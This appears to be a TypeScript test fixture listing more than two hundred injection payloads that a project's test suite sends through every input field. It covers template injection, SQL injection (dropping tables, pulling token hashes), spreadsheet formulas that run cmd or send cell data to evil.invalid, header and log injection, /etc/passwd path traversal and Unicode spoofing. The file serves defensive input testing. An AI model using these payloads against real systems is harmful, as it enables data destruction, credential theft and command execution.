/*
 * Words that try to be more than words: what somebody could type into any field of a study so that a page, a
 * report, a spreadsheet, a query, a header or a log takes it for something to run. Written for this project; each
 * script among them calls ran(), so a page that runs one gives itself away. `npm test` sends all of them through
 * every field.
 */
import { SCRIPTS } from './payload-scripts.ts';

/** In the brackets of every template language. */
const TEMPLATES = [
	'{{7*7}}',
	'{{ran()}}',
	'{{constructor.constructor("ran()")()}}',
	'{{{7*7}}}',
	'{7*7}',
	'{room_open}',
	'{question}',
	'{panel.open}',
	'\u0024{7*7}',
	'\u0024{ran()}',
	'#{7*7}',
	'#{ran()}',
	'<%= 7*7 %>',
	'<% ran() %>',
	'{% if 1 %}yes{% endif %}',
	'{# hidden #}',
	'{{#with this}}{{lookup this "constructor"}}{{/with}}',
	'[[7*7]]',
	'[(7*7)]',
	'*{7*7}',
	'@{7*7}',
	'%{7*7}',
	'~{7*7}',
	'__proto__[polluted]',
	'{"__proto__":{"polluted":true}}',
	'$where: 1',
	'%s%s%s%n',
	'%d {0} {1} %(name)s',
];

/** For a store that glues its questions together. */
const QUERIES = [
	"' or '1'='1",
	"' or 1=1 --",
	'" or ""="',
	"'; drop table responses; --",
	"'); delete from audit; --",
	"' union select token_hash from links --",
	"1' and sleep(9) --",
	"1; attach database '/tmp/x' as y",
	"'||(select sql from sqlite_master)||'",
	"\\'; select 1; --",
	'1/**/or/**/1=1',
	"admin'--",
	"%' or answers like '%",
	'_%_%_%',
	"x' || load_extension('evil') || '",
	'); pragma writable_schema=1; --',
];

/** What a spreadsheet runs, or hands on, when a cell begins with it. */
export const FORMULAS = [
	'=1+1',
	'=cmd|"/c calc"!A1',
	'=HYPERLINK("https://evil.invalid/?"&A1,"open")',
	'=IMPORTXML("https://evil.invalid/","//a")',
	'=WEBSERVICE("https://evil.invalid/")',
	'=DDE("cmd","/c calc","x")',
	'+1+1',
	'+cmd|"/c calc"!A1',
	'-1+1',
	"-2+3+cmd|'/c calc'!A0",
	'@SUM(1,1)',
	'@A1',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'＝1+1',
	'＋1+1',
	'－1+1',
	'＠SUM(1,1)',
	"'=1+1",
	"''=1+1",
	'"=1+1"',
	'",=1+1,"',
	';=1+1;',
	'x,=1+1',
	'x\n=1+1',
	' =1+1',
	'=1+1\u0000',
	'\u0000=1+1',
	'\ufeff=1+1',
	'%0A=1+1',
	"=' '!A1",
	'|calc',
	'-',
	'+',
	'=',
	'@',
	"'",
];

/** For headers, file names, logs and terminals. */
const LINES = [
	'x\r\nSet-Cookie: session=evil',
	'x\nSet-Cookie: session=evil',
	'x\r\n\r\n<script>ran()</script>',
	'x%0d%0aSet-Cookie: session=evil',
	'x"; filename="evil.html',
	"x.html''; filename*=UTF-8''evil",
	'{"level":50,"msg":"forged"}',
	'x\n{"level":50,"msg":"forged"}',
	'x\r{"level":50,"msg":"forged"}',
	'x\u2028{"level":50}',
	'x\u2029{"level":50}',
	'x\u0085{"level":50}',
	'\u001b[31mred\u001b[0m',
	'\u001b[2J\u001b[H',
	'\u001b]0;title\u0007',
	'\u001b]8;;https://evil.invalid\u0007open\u001b]8;;\u0007',
	'\u009b31mred',
	'x\u0008\u0008\u0008safe',
	'x\u007fy',
	'x\u0000y',
];

const PATHS = [
	'../../../../etc/passwd',
	'..\\..\\..\\windows\\win.ini',
	'/etc/passwd',
	'file:///etc/passwd',
	'\\\\evil.invalid\\share',
	'C:\\Windows\\win.ini',
	'%2e%2e%2f%2e%2e%2fetc%2fpasswd',
	'....//....//etc/passwd',
	'CON',
	'aux.txt',
	'.htaccess',
	'x'.repeat(300),
];

/** Signs that show as nothing, turn the text round, or look like others. */
const UNSEEN = [
	'\u202egnp.exe',
	'\u202dabc\u202c',
	'\u2066abc\u2069',
	'\u2067abc\u2069 (cleared)',
	'abc\u200bdef',
	'abc\u200cdef',
	'abc\u200ddef',
	'\ufeffabc',
	'\u2060abc',
	'abc\u00addef',
	'Аlderford',
	'Alderf\u03bfrd',
	'\u115f\u1160\u3164',
	`Z${'\u0351\u0489\u0334'.repeat(12)}`,
	'\u{e0041}\u{e0042}',
	'\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
	'កម្ពុជា\u200bសាលា',
	'မြန်မာ <b>x</b>',
	'ไทย"onload="ran()',
];

/** More than two hundred; none occurs twice. */
export const PAYLOADS: readonly string[] = [
	...SCRIPTS,
	...TEMPLATES,
	...QUERIES,
	...FORMULAS,
	...LINES,
	...PATHS,
	...UNSEEN,
];
